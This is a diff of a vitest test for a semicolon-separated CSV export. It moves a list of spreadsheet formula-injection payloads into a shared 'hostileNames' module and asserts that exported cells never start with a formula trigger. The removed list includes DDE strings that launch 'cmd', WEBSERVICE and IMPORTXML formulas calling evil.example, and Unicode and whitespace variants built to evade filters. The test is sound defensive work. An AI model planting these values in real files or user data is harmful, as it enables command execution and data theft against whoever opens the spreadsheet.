@@ -3,6 +3,7 @@ import { beforeEach, expect, test } from 'vitest'
 import { romeDay } from '#contract/dates.ts'
 import { users } from '#contract/users.ts'
 import { quickHasher } from '#server/testing/hashers.ts'
+import { hostileNames } from '#server/testing/hostile-names.ts'
 import { deleteEverybody } from '#server/testing/people.ts'
 import { type Rider, signedInRider } from '#server/testing/riders.ts'
 import { withTestServer } from '#server/testing/test-server.ts'
@@ -25,36 +26,6 @@ async function download(query = '') {
   const rows: string[][] = parse(bytes, { bom: true, delimiter: ';' })
   return { response, bytes, rows }
 }
-
-const formulas = [
-  ...['=1+1', '=1+41', '=A1', '=SUM(A1:A9)', '=NOW()', '=1+1";=2+2', '=-1', '=+1', '==1', "='x'"],
-  ...[
-    '=HYPERLINK("http://evil.example";"clicca")',
-    "=cmd|'/C calc'!A0",
-    '=WEBSERVICE("http://evil.example")',
-  ],
-  ...[
-    '=IMPORTXML("http://evil.example";"//a")',
-    '=DDE("cmd";"/C calc";"x")',
-    '=IMAGE("http://evil.example/x")',
-  ],
-  ...['+39 333', '+1+1', '+cmd|x!A0', '-2+3', '--1', "-cmd|'/C calc'!A0", '@SUM(A1:A9)', '@x', '@@'],
-  ...['\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', '  =1+1', '\u00a0=1+1', '\u3000=1+1', '\u2003@x'],
-  ...[
-    '＝1+1',
-    '＋1+1',
-    '－1+1',
-    '＠SUM(1)',
-    '"; =1+1',
-    '";"=1+1',
-    "'=1+1",
-    'a"b;c\nd',
-    ';;;',
-    '""',
-    'a;=1+1',
-    '\ufeff=1+1',
-  ],
-]
 
 const named = async (displayName: string) => {
   const { id } = await server.current.people.create()
@@ -85,12 +56,12 @@ test('has the columns of the documents, a name with the day, and is UTF-8 with i
 
 test('a name that a spreadsheet would take for a formula is text', async () => {
   const people = await Promise.all(
-    formulas.map(async (formula) => ({ formula, ...(await server.current.people.create()) })),
+    hostileNames.map(async (formula) => ({ formula, ...(await server.current.people.create()) })),
   )
   for (const { id, formula } of people)
     await sql()`update profiles set display_name = ${formula.padEnd(2)} where user_id = ${id}`
   const { rows } = await download()
-  expect(rows).toHaveLength(2 + formulas.length)
+  expect(rows).toHaveLength(2 + hostileNames.length)
   for (const row of rows) expect(row).toHaveLength(7)
   for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\t\r\n]|^\s*[=+\-@＝＋－＠]/)
   for (const { email, formula } of people) {
